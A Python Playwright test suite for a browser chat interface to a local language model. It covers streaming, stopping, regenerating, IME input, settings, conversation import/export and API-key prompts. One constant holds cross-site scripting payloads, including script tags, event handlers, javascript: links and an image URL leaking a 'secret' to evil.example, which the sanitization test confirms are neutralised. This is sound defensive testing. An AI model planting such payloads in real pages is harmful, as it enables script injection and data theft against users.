"""The chat view, in Chromium with a real server."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser_helpers import PHONE, ask, last_answer, open_page, wait_for_model
from serving import Service, served, slowed, wait_until

pytestmark = pytest.mark.browser

LONG = "春 fox " * 20  # the tiny model generates up to its limit


@pytest.fixture(scope="module")
def place(taught: Path, tiny: Path) -> Iterator[Service]:
    with served(taught, tiny) as running:
        slowed(running, "tiny")
        yield running


def test_streams_and_saves_an_answer(browser: Any, place: Service) -> None:
    with open_page(browser, place.port) as page:
        ask(page, "plain")
        assert last_answer(page).locator(".markdown").inner_text() == "the fox"
        assert "tokens" in last_answer(page).locator(".metadata").inner_text()
        assert page.locator(".message.user .bubble").inner_text() == "plain"
        page.reload()
        assert last_answer(page).locator(".markdown").inner_text() == "the fox"
        assert page.locator(".history li").count() == 1
        page.keyboard.press("Control+k")
        page.wait_for_selector(".empty")
        page.locator(".history li a").click()
        assert last_answer(page).locator(".markdown").inner_text() == "the fox"


def test_stops_an_answer(browser: Any, place: Service) -> None:
    with open_page(browser, place.port) as page:
        page.select_option(".picker select", "tiny")
        page.get_by_role("button", name="Chat settings").click()
        page.get_by_label("Temperature").fill("0")
        page.get_by_label("Max tokens").fill("1900")
        page.keyboard.press("Escape")
        ask(page, LONG)
        page.wait_for_selector(".message.assistant .markdown")
        page.get_by_role("button", name="Stop").click()
        assert "stopped" in last_answer(page).locator(".metadata").inner_text()
        text = last_answer(page).locator(".markdown").inner_text()
        assert text
        loaded = place.models.find("tiny").loaded
        assert loaded is not None
        wait_until(lambda: loaded.worker.open_requests == 0)
        page.reload()
        assert last_answer(page).locator(".markdown").inner_text() == text
        ask(page, LONG)
        page.wait_for_function(
            "() => document.querySelectorAll('.message.assistant .markdown').length === 2"
        )
        page.keyboard.press("Escape")
        assert "stopped" in last_answer(page).locator(".metadata").inner_text()


def test_interrupted_answer_is_marked(browser: Any, place: Service) -> None:
    """Also after a reload."""
    half = {"choices": [{"index": 0, "delta": {"content": "half"}, "finish_reason": None}]}
    with open_page(browser, place.port) as page:
        sent = {"content_type": "text/event-stream", "body": f"data: {json.dumps(half)}\n\n"}
        page.route("**/v1/chat/completions", lambda route: route.fulfill(**sent))
        ask(page, "plain")
        page.get_by_text("can't be reached").wait_for()
        page.reload()
        assert last_answer(page).locator(".markdown").inner_text() == "half"
        assert "interrupted" in last_answer(page).locator(".metadata").inner_text()


def test_versions_of_answers_and_questions(browser: Any, place: Service) -> None:
    with open_page(browser, place.port) as page:
        ask(page, "plain")
        last_answer(page).get_by_role("button", name="Regenerate").click()
        page.wait_for_selector(".message.assistant .versions")
        assert last_answer(page).locator(".versions span").inner_text() == "2/2"
        last_answer(page).get_by_role("button", name="Previous version").click()
        assert last_answer(page).locator(".versions span").inner_text() == "1/2"

        question = page.locator(".message.user")
        question.hover()
        question.get_by_role("button", name="Edit").click()
        page.fill(".editor textarea", "think")
        page.keyboard.press("Enter")
        assert last_answer(page).locator("> .markdown").inner_text() == "二"
        question = page.locator(".message.user")
        assert question.locator(".versions span").inner_text() == "2/2"
        question.get_by_role("button", name="Previous version").click()
        assert page.locator(".bubble").inner_text() == "plain"
        # The branch has its own versions.
        assert last_answer(page).locator(".versions span").inner_text() in ("1/2", "2/2")
        page.reload()
        assert page.locator(".bubble").inner_text() == "plain"


def test_reasoning_is_collapsed(browser: Any, place: Service) -> None:
    with open_page(browser, place.port) as page:
        ask(page, "think")
        answer = last_answer(page)
        assert answer.locator("> .markdown").inner_text() == "二"
        assert not answer.locator(".thought .markdown").is_visible()
        answer.get_by_text("Reasoning").click()
        assert answer.locator(".thought .markdown").inner_text() == "一 + 一"


def test_enter_while_composing_does_not_send(browser: Any, place: Service) -> None:
    """Enter of an input method: key code 229 in Chromium, `isComposing`, and in Safari after the
    composition has ended."""
    with open_page(browser, place.port) as page:
        page.focus("#message")
        session = page.context.new_cdp_session(page)
        session.send("Input.imeSetComposition", {"text": "ni hao", "selectionStart": 6,
                                                 "selectionEnd": 6})  # fmt: skip
        for kind in ("rawKeyDown", "keyUp"):
            session.send("Input.dispatchKeyEvent", {
                "type": kind, "key": "Process", "code": "Enter", "windowsVirtualKeyCode": 229,
            })  # fmt: skip
        session.send("Input.insertText", {"text": "你好"})
        for extra in ({"isComposing": True}, {"keyCode": 229}):
            page.evaluate(
                """extra => document.getElementById("message").dispatchEvent(
                     new KeyboardEvent("keydown", {key: "Enter", bubbles: true, ...extra}))""",
                extra,
            )
        page.wait_for_timeout(200)
        assert page.locator(".message").count() == 0
        assert page.input_value("#message") == "你好"
        page.keyboard.press("Shift+Enter")
        page.keyboard.insert_text("吗")
        assert page.input_value("#message") == "你好\n吗"
        wait_for_model(page)
        page.keyboard.press("Enter")
        page.wait_for_selector(".message.user")
        assert page.locator(".bubble").inner_text() == "你好\n吗"
        last_answer(page)


def test_language_and_theme_are_remembered(browser: Any, place: Service) -> None:
    with open_page(browser, place.port, "/#/settings") as page:
        page.get_by_text("中文").click()
        assert page.locator("html").get_attribute("lang") == "zh-CN"
        assert page.locator(".page h1").inner_text() == "设置"
        page.get_by_text("深色").click()
        ground = "getComputedStyle(document.body).backgroundColor"
        dark = page.evaluate(ground)
        page.reload()
        assert page.locator(".page h1").inner_text() == "设置"
        assert page.evaluate(ground) == dark
        page.get_by_text("浅色").click()
        assert page.evaluate(ground) != dark
    with open_page(browser, place.port, locale="zh-CN") as page:
        assert page.get_by_text("新对话").first.is_visible()


def test_reads_what_earlier_versions_stored(browser: Any, place: Service) -> None:
    """Names in localStorage and IndexedDB, and the fields of a conversation there."""
    [conversation] = json.loads(export_file("a **bold** word"))["conversations"]
    with open_page(browser, place.port) as page:
        page.evaluate(
            """conversation => new Promise((resolve, reject) => {
                 localStorage.setItem("khaosz.language", "zh");
                 localStorage.setItem("khaosz.theme", "dark");
                 localStorage.setItem("khaosz.model", "tiny");
                 localStorage.setItem("khaosz.key", "sesame");
                 const opening = indexedDB.open("khaosz", 1);
                 opening.onsuccess = () => {
                   const written = opening.result.transaction("conversations", "readwrite");
                   written.objectStore("conversations").put(conversation);
                   written.oncomplete = resolve;
                   written.onerror = reject } })""",
            {**conversation, "revision": 1, "updated": 5},
        )
        with page.expect_request("**/v1/models") as models:
            page.reload()
        assert models.value.headers["authorization"] == "Bearer sesame"
        page.locator(".history li a", has_text="imported").click()
        assert last_answer(page).locator(".markdown").inner_text() == "a bold word"
        assert page.locator("html").get_attribute("lang") == "zh-CN"
        assert page.locator("html").get_attribute("data-theme") == "dark"
        assert page.locator(".picker select").input_value() == "tiny"


HOSTILE = r"""
<script>window.harmed = 1</script><img src=x onerror="window.harmed = 2">
<svg onload="window.harmed = 3"></svg><iframe src="https://evil.example/"></iframe>
[click](javascript:window.harmed=4) ![leak](https://evil.example/?secret=1)
[ok](https://example.org/page "title") <a href="https://evil.example" onclick="x">raw</a>
![relative](/v1/models) [data](data:text/html,<script>window.harmed=5</script>)

| a | b |
|---|--:|
| 1 | <b onmouseover="window.harmed=6">2</b> |

```python
def f(x):
    return "<img src=x onerror=window.harmed=7>"
```

Euler: $e^{i\pi} + 1 = 0$ and $$\int_0^1 x^2\,dx = \frac{1}{3}$$ but it costs $5 and $6.

$\href{javascript:window.harmed=8}{x}$
"""


def export_file(text: str) -> str:
    """A file as the page exports it."""
    ids = ["00000000-0000-4000-8000-00000000000" + str(i) for i in range(3)]
    none = {"reasoning": None, "citations": None, "retrieval": None, "created": 1}
    nodes = [
        {"id": ids[1], "parent": None, "role": "user", "content": "show", "model": None,
         "finish_reason": None, **none},
        {"id": ids[2], "parent": ids[1], "role": "assistant", "content": text, "model": "m",
         "finish_reason": "stop", **none},
    ]  # fmt: skip
    conversation = {"id": ids[0], "title": "imported", "system": None, "settings": {},
                    "nodes": nodes, "knowledge_base": None, "selected": ids[2]}  # fmt: skip
    return json.dumps({"conversations": [conversation]})


def import_answer(page: Any, text: str) -> None:
    file = {"name": "c.json", "mimeType": "application/json", "buffer": export_file(text).encode()}
    page.set_input_files("input[type=file]", file)
    page.get_by_text("Conversations imported: 1").wait_for()
    page.locator(".history li a", has_text="imported").first.click()
    page.wait_for_selector(".message.assistant")


def test_model_output_is_sanitized(browser: Any, place: Service) -> None:
    """An imported conversation is rendered like a generated answer."""
    with open_page(browser, place.port, "/#/settings") as page:
        import_answer(page, HOSTILE)
        page.wait_for_selector(".markdown math")
        page.wait_for_selector(".hljs-keyword")
        page.wait_for_timeout(300)
        assert page.evaluate("window.harmed") is None
        inside = ".message.assistant .markdown"
        for bad in ("script", "img", "iframe", "svg", "[onclick]", "[onerror]", "[style]"):
            assert page.locator(f"{inside} {bad}").count() == 0, bad
        links = page.locator(f"{inside} a")
        for i in range(links.count()):
            assert links.nth(i).get_attribute("rel") == "noopener noreferrer nofollow"
            assert links.nth(i).get_attribute("href").startswith("https://")
        assert page.locator(f"{inside} math").count() == 2
        assert "costs $5 and $6" in page.locator(inside).inner_text()
        page.locator("[data-copy]").click()
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied.startswith("def f(x):") and "<img src=x" in copied


def test_exports_and_imports_conversations(browser: Any, place: Service, tmp_path: Path) -> None:
    with open_page(browser, place.port, "/#/settings") as page:
        import_answer(page, "a **bold** word")
        page.goto(page.url.split("#")[0] + "#/settings")
        with page.expect_download() as download:
            page.get_by_role("button", name="Export all").click()
        download.value.save_as(tmp_path / "out.json")
        exported = json.loads((tmp_path / "out.json").read_text())
        [conversation] = exported["conversations"]
        assert conversation["nodes"][1]["content"] == "a **bold** word"
        page.set_input_files("input[type=file]", tmp_path / "out.json")
        page.wait_for_function("() => document.querySelectorAll('.history li').length === 2")
        broken = {"name": "c.json", "mimeType": "application/json", "buffer": b"{"}
        page.set_input_files("input[type=file]", broken)
        page.get_by_text("No conversations found").wait_for()


def test_searches_renames_and_deletes_conversations(browser: Any, place: Service) -> None:
    with open_page(browser, place.port, "/#/settings") as page:
        import_answer(page, "春眠不觉晓")
        page.keyboard.press("Control+k")
        ask(page, "plain")
        last_answer(page)
        page.wait_for_function("() => document.querySelectorAll('.history li').length === 2")
        page.fill(".search input", "不觉")
        page.wait_for_function("() => document.querySelectorAll('.history li').length === 1")
        entry = page.locator(".history li")
        entry.hover()
        entry.get_by_role("button", name="Rename").click()
        page.fill("dialog input", "诗")
        page.keyboard.press("Enter")
        page.locator(".history li a", has_text="诗").wait_for()
        entry.hover()
        entry.get_by_role("button", name="Delete").click()
        page.locator("dialog").get_by_role("button", name="Delete").click()
        page.get_by_text("No results.").wait_for()
        page.fill(".search input", "")
        page.wait_for_function("() => document.querySelectorAll('.history li').length === 1")


def test_two_windows_of_a_browser_merge(browser: Any, place: Service) -> None:
    """With conversations stored in the browser."""
    with open_page(browser, place.port) as one:
        ask(one, "plain")
        last_answer(one)
        entry = one.locator(".history li a")
        entry.wait_for()
        two = one.context.new_page()
        two.goto(one.url)
        last_answer(two)
        for page in (one, two):  # each is unaware of the other
            ask(page, "think")
            page.locator(".message.assistant").nth(1).wait_for()
            last_answer(page)
        two.get_by_text("changed in another window").wait_for()
        one.reload()
        last_answer(one)
        assert one.locator(".message.user").last.locator(".versions span").inner_text() == "2/2"
        # A conversation deleted in one window continues in the other.
        one.locator(".history li").hover()
        one.locator(".history").get_by_role("button", name="Delete").click()
        one.get_by_role("dialog").get_by_role("button", name="Delete").click()
        entry.wait_for(state="detached")
        ask(two, "plain")
        two.locator(".message.assistant").nth(2).wait_for()
        last_answer(two)
        one.reload()
        entry.click()
        assert last_answer(one, 2).locator(".markdown").inner_text() == "the fox"


def test_sends_conversation_settings(browser: Any, place: Service) -> None:
    with open_page(browser, place.port) as page:
        page.get_by_role("button", name="Chat settings").click()
        page.get_by_label("System prompt").fill("Be brief.")
        page.get_by_label("Temperature").fill("0.5")
        page.get_by_label("Max tokens").fill("3")
        page.get_by_label("Stop sequences").fill("END")
        page.keyboard.press("Escape")
        with page.expect_request("**/v1/chat/completions") as sent:
            ask(page, "plain")
        body = sent.value.post_data_json
        assert body["messages"][0] == {"role": "system", "content": "Be brief."}
        assert (body["temperature"], body["max_tokens"], body["stop"]) == (0.5, 3, ["END"])
        last_answer(page)
        page.keyboard.press("Control+k")
        with page.expect_request("**/v1/chat/completions") as sent:
            ask(page, "plain")
        assert "temperature" not in sent.value.post_data_json
        last_answer(page)


def test_prompts_for_an_api_key(browser: Any, taught: Path) -> None:
    with served(taught, key="sesame") as service, open_page(browser, service.port) as page:
        page.get_by_label("API key", exact=True).fill("wrong")
        page.keyboard.press("Enter")
        page.get_by_text("rejected this key").wait_for()
        page.get_by_label("API key", exact=True).fill("sesame")
        page.keyboard.press("Enter")
        page.wait_for_function("() => document.querySelector('.picker select').value === 'taught'")
        ask(page, "plain")
        assert last_answer(page).locator(".markdown").inner_text() == "the fox"


@pytest.mark.parametrize("key", ["sesame", "芝麻"])
def test_accepts_api_keys_of_any_characters(browser: Any, taught: Path, key: str) -> None:
    """Full-width or Chinese characters must not keep the page from prompting again."""
    with served(taught, key=key) as service, open_page(browser, service.port) as page:
        for wrong in ("ｓｅｓａｍｅ", "开门"):
            page.get_by_label("API key", exact=True).fill(wrong)
            page.keyboard.press("Enter")
            page.get_by_text("rejected this key").wait_for()
        page.get_by_label("API key", exact=True).fill(key)
        page.keyboard.press("Enter")
        wait_for_model(page)


def test_survives_a_truncated_address(browser: Any, place: Service) -> None:
    with open_page(browser, place.port, "/#/chat/100%") as page:
        wait_for_model(page)
        page.evaluate("location.hash = '#/training/100%25'")
        page.evaluate("location.hash = '#/settings'")
        page.get_by_role("heading", name="Settings").wait_for()


def test_shows_errors_and_retries(browser: Any, taught: Path) -> None:
    with served(taught) as service, open_page(browser, service.port) as page:
        page.wait_for_function("() => document.querySelector('.picker select').value === 'taught'")
        page.route("**/v1/**", lambda route: route.abort("connectionrefused"))
        ask(page, "plain")
        page.get_by_text("can't be reached").wait_for()
        assert page.locator(".bubble").inner_text() == "plain"
        assert page.get_by_role("button", name="Try again").is_visible()
        page.unroute("**/v1/**")
        page.get_by_role("button", name="Try again").click()
        assert last_answer(page).locator(".markdown").inner_text() == "the fox"
        assert page.locator(".message").count() == 2


def test_fits_a_phone(browser: Any, place: Service) -> None:
    with open_page(browser, place.port, "/#/settings", viewport=PHONE) as page:
        overflows = "document.documentElement.scrollWidth > innerWidth"
        assert not page.evaluate(overflows)
        import_on_phone(page, HOSTILE + "\n\n" + "x" * 400 + "\n\n```\n" + "y" * 400 + "\n```")
        assert not page.evaluate(overflows)
        for element in (".column", ".composer", ".top"):
            box = page.locator(element).bounding_box()
            assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"], element


def import_on_phone(page: Any, text: str) -> None:
    file = {"name": "c.json", "mimeType": "application/json", "buffer": export_file(text).encode()}
    page.set_input_files("input[type=file]", file)
    page.get_by_text("Conversations imported: 1").wait_for()
    page.get_by_role("button", name="Menu").click()
    page.locator(".history li a", has_text="imported").click()
    page.wait_for_selector(".message.assistant")


def test_works_with_the_keyboard_only(browser: Any, place: Service) -> None:
    with open_page(browser, place.port) as page:
        page.evaluate("document.activeElement.blur()")
        page.keyboard.press("?")
        page.get_by_role("dialog").wait_for()
        page.keyboard.press("Escape")
        page.locator(".skip").focus()
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        page.keyboard.press("/")
        assert page.evaluate("document.activeElement.id") == "message"
        page.keyboard.type("plain")
        wait_for_model(page)
        page.keyboard.press("Enter")
        last_answer(page)
        # Every control has an accessible name.
        unnamed = page.evaluate(
            """() => [...document.querySelectorAll("button, a[href], input, select, textarea")]
              .filter(e => !(e.textContent.trim() || e.ariaLabel || e.labels?.length))
              .map(e => e.outerHTML)"""
        )
        assert unnamed == []
